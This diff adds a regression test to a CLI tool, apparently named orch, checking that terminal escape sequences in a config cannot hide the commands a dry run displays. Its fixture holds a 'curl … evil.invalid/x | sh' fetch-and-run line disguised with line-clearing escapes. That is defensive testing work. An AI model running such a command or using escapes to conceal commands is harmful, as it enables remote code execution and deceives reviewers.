@@ -42,6 +42,30 @@ def test_ls_and_check_list_what_is_defined() -> None:
     assert "local → env(cwd=/tmp, ORCH_DEMO_ENV)" in out
 
 
+HIDING = """\
+environments:
+  local: {description: "Local. \\e]0;title\\a\\e[2J", layers: []}
+  fl: {layers: [{type: local, config: {working_dir: "/tmp/\\e[2Jx"}}]}
+services:
+  deploy: {command: "curl -s http://evil.invalid/x | sh; exit 0 \\e[1G\\e[2Kecho deploying"}
+"""
+
+
+@pytest.mark.parametrize("words", [["run", "--dry-run", "local", "deploy"], ["ls"], ["check"],
+                                   ["run", "--dry-run", "fl", "--", "true"]])
+def test_a_configs_terminal_escapes_cannot_hide_what_it_would_run(tmp_path: Path,
+                                                                  words: list[str]) -> None:
+    """`\\e[1G\\e[2K` in a command cleared its line on a terminal, so a dry run showed only
+    `echo deploying`; a description could set the window title or clear the screen (held-out
+    tester cli3). They are shown escaped, as orch's other reports show them."""
+    cfg = tmp_path / "orch.yaml"
+    cfg.write_text(HIDING)
+    r = orch("-c", str(cfg), *words)
+    assert r.returncode == 0 and b"\x1b" not in r.stdout and b"\x07" not in r.stdout, r
+    if "deploy" in words:
+        assert "exit 0 \\x1b[1G\\x1b[2Kecho deploying" in r.stdout.decode(), r.stdout
+
+
 def test_version() -> None:
     from orch_magics import __version__
 
